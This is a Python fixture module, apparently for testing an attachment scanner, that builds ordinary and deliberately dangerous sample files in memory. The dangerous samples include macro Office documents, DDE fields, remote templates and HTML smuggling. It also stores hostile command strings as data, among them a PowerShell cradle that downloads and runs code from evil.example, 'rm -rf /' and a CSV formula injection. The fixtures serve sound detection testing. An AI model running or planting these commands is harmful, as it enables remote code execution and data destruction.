"""Sample attachments, made in memory: ordinary ones, and one for each member of the dangerous class."""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "xlsm": ("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "xlsb": ("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


# --- ZIP ---------------------------------------------------------------------------------------------------------


def zipped(files: Mapping[str, bytes] | Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these files, as Python writes it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in files.items() if hasattr(files, "items") else files:
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


def zip_encrypted(name: str = "invoice.txt") -> bytes:
    """A ZIP whose file has the encryption flag, in both headers."""
    data = bytearray(zipped({name: b"secret, secret, secret"}, zipfile.ZIP_STORED))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def zip_aes() -> bytes:
    """A ZIP with WinZip AES encryption."""
    import pyzipper

    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(b"password")
        archive.writestr("invoice.txt", b"secret")
    return buffer.getvalue()


def zip_disagreeing() -> bytes:
    """A ZIP whose local header says safe.txt where the directory says evil.exe (or the other way round)."""
    data = zipped({"evil.exe": b"MZ"}, zipfile.ZIP_STORED)
    return data.replace(b"evil.exe", b"safe.txt", 1)


def zip_streamed(name: str = "a.txt", data: bytes = b"streamed text") -> bytes:
    """A ZIP written to a pipe: sizes follow the data."""

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.written = b""

        def writable(self) -> bool:
            return True

        def write(self, data: bytes) -> int:
            self.written += bytes(data)
            return len(data)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return pipe.written


def zip_hidden_member() -> bytes:
    """A ZIP in which a second file stands in the data, but not in the directory."""
    both = zipped([("safe.txt", b"safe"), ("evil.exe", b"MZ evil")], zipfile.ZIP_STORED)
    directory = both.index(b"PK\x01\x02")
    second = both.index(b"PK\x01\x02", directory + 4)
    end = bytearray(both[both.index(b"PK\x05\x06") :])
    end[8:12] = b"\x01\0\x01\0"
    end[12:16] = struct.pack("<I", second - directory)
    return both[:second] + bytes(end)


def nested_zip(depth: int, innermost: tuple[str, bytes] = ("a.txt", b"text")) -> bytes:
    """ZIPs within each other; depth 1 is a plain one."""
    data = zipped([innermost])
    for level in range(depth - 1):
        data = zipped({f"level{level}.zip": data})
    return data


def zip_bomb(octets: int = 200 << 20) -> bytes:
    """A ZIP of zeros."""
    return zipped({"zeros.bin": bytes(octets)})


# --- Office Open XML ---------------------------------------------------------------------------------------------


def ooxml(
    kind: str,
    parts: Mapping[str, bytes] | None = None,
    relationships: Mapping[str, Iterable[tuple[str, str, bool]]] | None = None,
    overrides: Mapping[str, str] | None = None,
    main: bytes | None = None,
) -> bytes:
    """A package of this kind.

    relationships: part name ("" = the package): (type, target, external); overrides: part name to content type.
    """
    name, content_type = _MAIN[kind]
    declared = {name: content_type, **(overrides or {})}
    types = "".join(f'<Override PartName="/{part}" ContentType="{mime}"/>' for part, mime in declared.items())
    files = {
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="{_TYPES}"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            f'ContentType="application/xml"/>{types}</Types>'
        ).encode(),
        name: main or b'<?xml version="1.0" encoding="UTF-8"?>\n<main>text</main>',
        **(parts or {}),
    }
    for source, wanted in {"": [(f"{_OFFICE}/officeDocument", name, False)], **(relationships or {})}.items():
        folder, _, base = source.rpartition("/")
        path = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        files[path] = _relationships(wanted)
    return zipped(files)


def _relationships(wanted: Iterable[tuple[str, str, bool]]) -> bytes:
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{kind if "/" in kind else f"{_OFFICE}/{kind}"}" Target="{target}"'
        + (' TargetMode="External"/>' if external else "/>")
        for number, (kind, target, external) in enumerate(wanted, 1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="{_RELS}">{rows}</Relationships>'.encode()


def word_main(body: str) -> bytes:
    """The main part of a Word document."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<w:document xmlns:w="{space}"><w:body>{body}</w:body></w:document>'
    ).encode()


def instruction(*runs: str) -> str:
    """A Word field whose instruction is split over runs."""
    inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + inside
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx(text: str = "hello") -> bytes:
    """An ordinary Word document with a table of contents and a hyperlink."""
    return ooxml(
        "docx",
        {"docProps/core.xml": b"<cp/>", "word/media/image1.png": png()},
        {"word/document.xml": [("hyperlink", "https://example.com/", True), ("image", "media/image1.png", False)]},
        main=word_main(instruction(' TOC \\o "1-3" ') + f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"),
    )


def docm() -> bytes:
    return ooxml(
        "docm",
        {"word/vbaProject.bin": ole({"VBA/dir": b"x" * 100})},
        {
            "word/document.xml": [
                ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
            ]
        },
    )


def docx_with_renamed_macros() -> bytes:
    return ooxml(
        "docx",
        {"word/media/picture.dat": ole({"VBA/dir": b"x" * 100})},
        {
            "word/document.xml": [
                ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/picture.dat", False)
            ]
        },
    )


def docx_dde(*runs: str) -> bytes:
    return ooxml(
        "docx",
        main=word_main(instruction(*(runs or ("DD", "EAU", 'TO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))),
    )


def docx_dde_utf16() -> bytes:
    text = word_main(instruction("DDE", "AUTO calc")).decode().replace("UTF-8", "UTF-16")
    return ooxml("docx", main=text.encode("utf-16"))


def docx_remote_template(target: str = "http://evil.example/t.dotm") -> bytes:
    return ooxml("docx", relationships={"word/settings.xml": [("attachedTemplate", target, True)]})


def docx_object() -> bytes:
    return ooxml(
        "docx",
        {"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": b"evil.exe"})},
        {"word/document.xml": [("oleObject", "embeddings/oleObject1.bin", False)]},
    )


def docx_doctype() -> bytes:
    return ooxml("docx", main=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "DDEAUTO">]><x>&a;</x>')


def xlsx() -> bytes:
    sheet = b"<worksheet><sheetData>" + b"<row><c><v>1</v></c></row>" * 1000 + b"</sheetData></worksheet>"
    return ooxml(
        "xlsx",
        {"xl/worksheets/sheet1.xml": sheet, "xl/printerSettings/printerSettings1.bin": b"\0" * 200},
        {
            "xl/workbook.xml": [("worksheet", "worksheets/sheet1.xml", False)],
            "xl/externalLinks/externalLink1.xml": [("externalLinkPath", "file:///\\\\server\\book.xlsx", True)],
        },
    )


def xlsm_xlm() -> bytes:
    return ooxml(
        "xlsm",
        {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"},
        {
            "xl/workbook.xml": [
                ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", False)
            ]
        },
    )


def xlsx_dde() -> bytes:
    return ooxml(
        "xlsx", {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    )


def xlsb_dde() -> bytes:
    return ooxml("xlsb", {"xl/externalLinks/externalLink1.bin": b"\xe8\x02\x10\x01\0" + bytes(20)})


def pptx() -> bytes:
    """A presentation with a chart, which carries its data as a workbook."""
    return ooxml(
        "pptx",
        {"ppt/charts/chart1.xml": b"<c/>", "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()},
        {"ppt/charts/chart1.xml": [("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", False)]},
        {"ppt/charts/chart1.xml": "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"},
    )


def pptx_program() -> bytes:
    click = b'<hlinkClick xmlns="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/>'
    return ooxml("pptx", {"ppt/slides/slide1.xml": click})


def odt(macro: bool = False, encrypted: bool = False) -> bytes:
    space = "urn:oasis:names:tc:opendocument:xmlns"
    inside = "<encryption-data/>" if encrypted else ""
    manifest = f'<manifest xmlns="{space}:manifest:1.0">{inside}</manifest>'.encode()
    content = f'<document-content xmlns="{space}:office:1.0"/>'.encode()
    files = [("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", content)]
    module = b'<script:module xmlns:script="http://openoffice.org/2000/script"/>'
    files += [("Basic/Standard/Module1.xml", module)] if macro else []
    return zipped([*files, ("META-INF/manifest.xml", manifest)], zipfile.ZIP_STORED)


def word_xml(macro: bool) -> bytes:
    present = b' w:macrosPresent="yes"' if macro else b""
    return (
        b'<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n'
        b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"' + present + b"/>"
    )


# --- compound files ----------------------------------------------------------------------------------------------


def ole(streams: Mapping[str, bytes], class_id: bytes = bytes(16), trailer: bytes = b"", mini: bool = False) -> bytes:
    """A compound file of version 3; paths with "/".

    mini: small streams go into the mini stream, as Office does it; otherwise they are filled up to 4,096 octets.
    """
    small = [path for path, stream in streams.items() if mini and len(stream) < 4096]
    mini_stream, mini_fat, mini_starts = b"", [], {}
    for path in small:
        count = -(-len(streams[path]) // 64)
        mini_starts[path] = len(mini_fat) if count else 0xFFFFFFFE
        mini_fat += [len(mini_fat) + step + 1 for step in range(count - 1)] + [0xFFFFFFFE] * bool(count)
        mini_stream += streams[path] + bytes(-len(streams[path]) % 64)
    entries: list[tuple[str, int, int, int, int, int]] = []
    children: dict[str, list[str]] = {"": []}
    for path in streams:
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            around, here = "/".join(parts[: depth - 1]), "/".join(parts[:depth])
            if here not in children.setdefault(around, []):
                children[around].append(here)
    order = [""]
    for path in order:
        order.extend(children.get(path, []))
    number = {path: place for place, path in enumerate(order)}
    directory_sectors = -(-len(order) // 4)
    data = b""
    starts: dict[str, int] = {}
    fat: list[int] = []
    hidden = {"<mini>": mini_stream, "<mini FAT>": struct.pack(f"<{len(mini_fat)}I", *mini_fat)} if mini_fat else {}
    for path, stream in [*hidden.items(), *((path, stream) for path, stream in streams.items() if path not in small)]:
        padded = stream + bytes(-len(stream) % 512)
        padded += bytes(max(4096 - len(padded), 0) if path in streams else 0)
        starts[path] = directory_sectors + len(fat)
        count = len(padded) // 512
        fat += [directory_sectors + len(fat) + step + 1 for step in range(count - 1)] + [0xFFFFFFFE]
        data += padded
    chain = [*range(1, directory_sectors), 0xFFFFFFFE, *fat]
    fat_sectors = 1
    while (len(chain) + fat_sectors) > fat_sectors * 128:
        fat_sectors += 1
    first_fat = len(chain)
    chain += [0xFFFFFFFD] * fat_sectors
    chain += [0xFFFFFFFF] * (fat_sectors * 128 - len(chain))
    for path in order:
        siblings = children.get(path.rpartition("/")[0], []) if path else []
        place = siblings.index(path) if path else 0
        right = number[siblings[place + 1]] if path and place + 1 < len(siblings) else 0xFFFFFFFF
        child = number[children[path][0]] if children.get(path) else 0xFFFFFFFF
        kind = 5 if not path else 2 if path in streams else 1
        size = len(streams[path]) if path in small else max(len(streams[path]), 4096) if path in streams else 0
        if not path:
            starts[""], size = starts.get("<mini>", 0xFFFFFFFE), len(mini_stream)
        entries.append(
            (
                path.rpartition("/")[2] or "Root Entry",
                kind,
                right,
                child,
                (mini_starts if path in small else starts).get(path, 0xFFFFFFFE),
                size,
            )
        )
    directory = b"".join(
        _ole_entry(*entry, class_id if place == 0 else bytes(16)) for place, entry in enumerate(entries)
    )
    directory += bytes(directory_sectors * 512 - len(directory))
    header = struct.pack(
        "<8s16x5H6x8I",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        0,
        fat_sectors,
        0,
        0,
        4096,
        starts.get("<mini FAT>", 0xFFFFFFFE),
        -(-len(mini_fat) // 128),
        0xFFFFFFFE,
    )
    header += struct.pack("<I", 0)
    places = [first_fat + step for step in range(fat_sectors)]
    header += struct.pack("<109I", *places, *[0xFFFFFFFF] * (109 - len(places)))
    return header + directory + data + struct.pack(f"<{len(chain)}I", *chain) + trailer


def _ole_entry(name: str, kind: int, right: int, child: int, start: int, size: int, class_id: bytes) -> bytes:
    raw = name.encode("utf-16-le")
    return struct.pack(
        "<64sH2B3I16s4x16xIQ", raw, len(raw) + 2, kind, 1, 0xFFFFFFFF, right, child, class_id, start, size
    )


def word_streams(flags: int = 0, text: bytes = b"text", width: int = 1, strings: bytes = b"") -> dict[str, bytes]:
    """The streams of a Word document with one piece of text, and its associated strings ([MS-DOC] 2.4.1)."""
    fib = bytearray(0x400)
    struct.pack_into("<2H", fib, 0, 0xA5EC, 0xC1)
    struct.pack_into("<H", fib, 0x0A, 0x0200 | flags)
    count = len(text) // width
    struct.pack_into("<i", fib, 0x4C, count)
    place = 0x400 * 2 | 0x40000000 if width == 1 else 0x400
    pieces = struct.pack("<2IHIH", 0, count, 0, place, 0)
    pieces = b"\x02" + struct.pack("<I", len(pieces)) + pieces
    struct.pack_into("<2I", fib, 0x9A + 8 * 33, 0, len(pieces))
    struct.pack_into("<2I", fib, 0x9A + 8 * 32, len(pieces), len(strings))
    return {"WordDocument": bytes(fib) + text, "1Table": pieces + strings}


def doc(**changes: object) -> bytes:
    return ole({**word_streams(**changes), "\x05SummaryInformation": b"s"}, mini=True)  # type: ignore[arg-type]


def doc_macro() -> bytes:
    return ole({**word_streams(), "Macros/VBA/dir": b"x", "Macros/PROJECT": b"x"}, mini=True)


def doc_template() -> bytes:
    path = "http://evil.example/t.dot"
    return doc(strings=struct.pack("<4HH", 0xFFFF, 2, 0, 0, len(path)) + path.encode("utf-16-le"))


def records(*wanted: tuple[int, bytes]) -> bytes:
    """Excel records."""
    return b"".join(struct.pack("<2H", number, len(data)) + data for number, data in wanted)


_BOF = (0x809, struct.pack("<2H", 0x600, 5) + bytes(12))
_SHEET = (0x85, bytes(4) + b"\0\0" + b"\x06\0Sheet1")


def xls(*extra: tuple[int, bytes]) -> bytes:
    return ole({"Workbook": records(_BOF, *extra, _SHEET, (0x0A, b""))})


def xls_xlm() -> bytes:
    return xls((0x85, bytes(4) + b"\0\x01" + b"\x06\0Macro1"))


def xls_dde() -> bytes:
    return xls((0x1AE, struct.pack("<2HB", 1, 8, 0) + b"cmd\x03/c x"))


def xls_linked() -> bytes:
    """A workbook that refers to another one; no danger."""
    return xls((0x1AE, struct.pack("<2HB", 1, 12, 0) + b"\x01\x01C\x03dir\x03a.xls"))


def ppt(data: bytes = b"") -> bytes:
    """A presentation with one container, its directory, and the edit that leads there ([MS-PPT] 2.1.2)."""
    stream = struct.pack("<2HI", 0xF, 1000, len(data)) + data
    directory = len(stream)
    stream += struct.pack("<2H3I", 0, 0x1772, 8, 1 | 1 << 20, 0)
    user = struct.pack("<2H4I", 0, 0x0FF6, 20, 20, 0xE391C05F, len(stream)) + bytes(8)
    stream += struct.pack("<2H8I", 0, 0x0FF5, 28, 0, 0, 0, directory, 1, 1, 0)
    return ole({"PowerPoint Document": stream, "Current User": user}, mini=True)


def msi() -> bytes:
    return ole({"\u4840\u3f3f": b"table"}, b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0F")


def encrypted_office() -> bytes:
    return ole({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"x"})


def msg(name: str, data: bytes) -> bytes:
    """An Outlook message with one attachment."""
    at = "__attach_version1.0_#00000000"
    streams = {"__properties_version1.0": bytes(32), f"{at}/__properties_version1.0": bytes(8)}
    streams |= {f"{at}/__substg1.0_3707001F": name.encode("utf-16-le"), f"{at}/__substg1.0_37010102": data}
    return ole(streams, mini=True)


# --- text and markup ---------------------------------------------------------------------------------------------


def rtf(inside: bytes = b"") -> bytes:
    return rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 hello" + inside + b"}"


RTF_OBJECT = rb"{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}"
RTF_DDE = rb"{\field{\*\fldinst {DDE}{AUTO c:\\windows\\cmd.exe}}}"
RTF_TEMPLATE = rb"{\*\template http://evil.example/t.dotm}"
RTF_LOCAL = rb"{\*\template C:\\Users\\a\\Normal.dotm}{\field{\*\fldinst PAGE}}"

NEWSLETTER = b"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style>p { color: red } /* on this= */</style></head><body><h1>News</h1><p>Only online = cheap. Click <a
href="https://example.com/?x=1&amp;once=2">here</a> <img src="https://example.com/a.png" alt="on sale=now">
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--><a href="mailto:a@example.com">mail</a></body></html>
"""
SMUGGLING = b"<html><body><script>var b=atob('TVo=');new Blob([b]);</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="4" fill="red"/></svg>'
SVG_SCRIPT = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example"</script></svg>'
ICS = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n%sEND:VEVENT\r\nEND:VCALENDAR\r\n"
ICS_FILE = b"ATTACH;FMTTYPE=application/octet-stream;ENCOD\r\n ING=BASE64;VALUE=BINARY:TVqQAAMAAAAEAAAA\r\n"
ICS_LINK = b"ATTACH;FMTTYPE=text/html:https://example.com/agenda\r\nATTACH;VALUE=URI:Basso\r\n"
POWERSHELL = b"$c = New-Object System.Net.WebClient\r\nIEX ($c.DownloadString('http://evil.example/a'))\r\n"
VBSCRIPT = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'
JSCRIPT = b"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n"
WSF = b'<?xml version="1.0"?>\n<job id="a"><script language="VBScript">MsgBox 1</script></job>'
HTA = b"<html><head><HTA:APPLICATION ID='a'></head><body></body></html>"
BATCH = b"@echo off\r\nstart calc\r\n"
SHELL = b"#!/bin/sh\nrm -rf /\n"
PYTHON = b"import os\nos.system('calc')\n"
URL = b"[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n"
RDP = b"screen mode id:i:2\r\nfull address:s:evil.example\r\n"
IQY = b"WEB\r\n1\r\nhttp://evil.example/a\r\n"
SYLK = b'ID;PWXL;N;E\r\nC;X1;Y1;EEXEC("calc")\r\nE\r\n'
SETTING_CONTENT = (
    b'<?xml version="1.0"?>\n<PCSettings><SearchableContent><DeepLink>cmd</DeepLink></SearchableContent></PCSettings>'
)
CSV = b'name,amount\r\nalpha,-3\r\n"a, b",=1+2\r\n+81-3-1234-5678,x|y\r\n'
CSV_DDE = b"name,amount\r\nalpha,=cmd|'/c calc'!A0\r\n"
EML = (
    b"From: a@example.com\r\nTo: b@example.com\r\nSubject: s\r\nDate: Tue, 24 Nov 2026 00:00:00 +0000\r\n"
    b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
)
MHT = (
    b"From: <Saved by Blink>\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n"
    b' type="text/html"; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>x<script>y()</script>\r\n--b--\r\n'
)


def eml_with(name: str, data: bytes) -> bytes:
    import base64

    return (
        b"From: a@example.com\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b\r\nContent-Type: application/octet-stream\r\n"
        b'Content-Disposition: attachment; filename="'
        + name.encode()
        + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.encodebytes(data)
        + b"--b--\r\n"
    )


# --- PDF ---------------------------------------------------------------------------------------------------------


def pdf(catalog: bytes = b"", objects: bytes = b"", junk: bytes = b"") -> bytes:
    body = (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R "
        b"/MediaBox [0 0 99 99] /Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/) >> >>] "
        b">>\nendobj\n" + objects + b"trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
    )
    return junk + body


def pdf_object_stream(inside: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    data = zlib.compress(inside)
    return pdf(
        objects=b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter "
        + filters
        + b" /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream\nendobj\n"
    )


# --- binaries ----------------------------------------------------------------------------------------------------

EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(44) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0L\x01" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0" + bytes(60)
MACHO = b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(60)
JAVA = b"\xca\xfe\xba\xbe\0\0\x004" + bytes(60)
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(80)
ONENOTE = b"\xe4R\\{\x8c\xd8\xa7M\xae\xb1Sx\xd0)\x96\xd3" + bytes(1024)
CHM = b"ITSF\x03\0\0\0" + bytes(100)
ISO = bytes(0x8000) + b"\x01CD001\x01\0" + bytes(4096)
VHD = bytes(4096) + b"conectix" + bytes(504)
VHDX = b"vhdxfile" + bytes(1024)
DMG = bytes(range(256)) * 8 + b"koly" + bytes(508)
WIM = b"MSWIM\0\0\0" + bytes(200)
ACCESS = b"\0\x01\0\0Standard ACE DB\0" + bytes(200)
BIFF_4_MACRO = b"\x09\x04\x06\0\0\0\x40\0\0\0" + records((0x0A, b""))
BIFF_4_SHEET = b"\x09\x04\x06\0\0\0\x10\0\0\0" + records((0x0A, b""))


def cab(name: bytes = b"setup.exe") -> bytes:
    return struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, 100, 0, 36, 0, 3, 1, 1, 1, 0, 0, 0) + bytes(16) + name + b"\0"


def seven_zip(encrypted: bool = False) -> bytes:
    header = b"\x01\x04\x06\0" + (b"\x24\x06\xf1\x07\x01" if encrypted else b"\x21\x21\x01\0") + b"\0\0"
    return b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<IQQI", 0, 0, len(header), zlib.crc32(header)) + header


def rar_5(name: bytes = b"invoice.js", encrypted: bool = False, headers_encrypted: bool = False) -> bytes:
    if headers_encrypted:
        return b"Rar!\x1a\x07\x01\0" + bytes(4) + b"\x05\x04\0\0\0\0"
    extra = b"\x03\x01\0\0" if encrypted else b""
    body = b"\x02" + (b"\x01" if extra else b"\0") + (bytes((len(extra),)) if extra else b"")
    body += b"\0\x04\0\0\0" + bytes((len(name),)) + name + extra
    return b"Rar!\x1a\x07\x01\0" + bytes(4) + bytes((len(body),)) + body


def rar_4(name: bytes = b"invoice.js", encrypted: bool = False) -> bytes:
    main = struct.pack("<BHH6x", 0x73, 0, 13)
    main = struct.pack("<H", zlib.crc32(main) & 0xFFFF) + main
    flags = 0x8000 | (4 if encrypted else 0)
    file = struct.pack("<HBHHIIBIIBBHI", 0, 0x74, flags, 32 + len(name), 0, 4, 2, 0, 0, 20, 0x30, len(name), 0) + name
    return b"Rar!\x1a\x07\0" + main + file


def tar(name: str = "a.txt", data: bytes = b"text") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def gz(data: bytes, name: str = "") -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(name, "wb", fileobj=buffer, mtime=0) as file:
        file.write(data)
    return buffer.getvalue()


def bz(data: bytes) -> bytes:
    return bz2.compress(data)


def xz(data: bytes) -> bytes:
    return lzma.compress(data)


def tnef(name: str, data: bytes, long_name: str = "", rtf: bytes = b"") -> bytes:
    """A winmail.dat with one attachment; rtf: the text, compressed."""
    stream = b"\x78\x9f\x3e\x22\x01\0"
    if rtf:
        value = struct.pack("<I2HII", 1, 0x102, 0x1009, 1, len(rtf)) + rtf + bytes(-len(rtf) % 4)
        stream += _attribute(1, 0x00069003, value)
    stream += _attribute(2, 0x00069002, bytes(14))
    stream += _attribute(2, 0x00018010, name.encode() + b"\0") + _attribute(2, 0x0006800F, data)
    if long_name:
        raw = (long_name + "\0").encode("utf-16-le")
        value = struct.pack("<I2HII", 1, 0x1F, 0x3707, 1, len(raw)) + raw + bytes(-len(raw) % 4)
        stream += _attribute(2, 0x00069005, value)
    return stream


def _attribute(level: int, number: int, data: bytes) -> bytes:
    return struct.pack("<BII", level, number, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">2I5B", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + b"\xff\xdb\0C\0" + bytes(range(1, 65))
JPEG += b"\xff\xc0\0\x0b\x08\0\x01\0\x01\x01\x01\x11\0" + b"\xff\xda\0\x08\x01\x01\0\0\x3f\0" + b"\xd2\xcf\xff\xd9"
GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
WEBP = b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0"
BMP = b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0(\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\x18\0" + bytes(28)
MP4 = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(40)


# --- the set -----------------------------------------------------------------------------------------------------

P = "application/vnd.openxmlformats-officedocument."


@functools.cache
def ordinary() -> dict[str, tuple[bytes, str]]:
    """File name: (content, type) of what people send every day."""
    return {
        "report.docx": (docx(), P + "wordprocessingml.document"),
        "normal-template.docx": (
            docx_remote_template("file:///C:\\Users\\a\\Templates\\Letter.dotx"),
            P + "wordprocessingml.document",
        ),
        "table.xlsx": (xlsx(), P + "spreadsheetml.sheet"),
        "talk.pptx": (pptx(), P + "presentationml.presentation"),
        "letter.odt": (odt(), "application/vnd.oasis.opendocument.text"),
        "old.doc": (doc(), "application/msword"),
        "old.xls": (xls(), "application/vnd.ms-excel"),
        "linked.xls": (xls_linked(), "application/vnd.ms-excel"),
        "old.ppt": (ppt(), "application/vnd.ms-powerpoint"),
        "mail.msg": (msg("report.pdf", pdf()), "application/vnd.ms-outlook"),
        "flat.xml": (word_xml(macro=False), "application/vnd.ms-office.flat-xml"),
        "letter.rtf": (rtf(RTF_LOCAL), "application/rtf"),
        "請求書.pdf": (pdf(), "application/pdf"),
        "junk-first.pdf": (pdf(junk=b"\r\n" * 100), "application/pdf"),
        "modern.pdf": (pdf_object_stream(b"1 0 << /Type /Page >>"), "application/pdf"),
        "files.zip": (zipped({"a.txt": b"text", "b/c.pdf": pdf(), "日本語.docx": docx()}), "application/zip"),
        "stored.zip": (zipped({"c.pdf": pdf(), "d.zip": nested_zip(1)}, zipfile.ZIP_STORED), "application/zip"),
        "streamed.zip": (zip_streamed(), "application/zip"),
        "empty.zip": (zipped({}), "application/zip"),
        "nested.zip": (nested_zip(3), "application/zip"),
        "files.tar": (tar("c.pdf", pdf()), "application/x-tar"),
        "files.tar.gz": (gz(tar(), "files.tar"), "application/gzip"),
        "log.txt.bz2": (bz(b"log\n" * 100), "application/x-bzip2"),
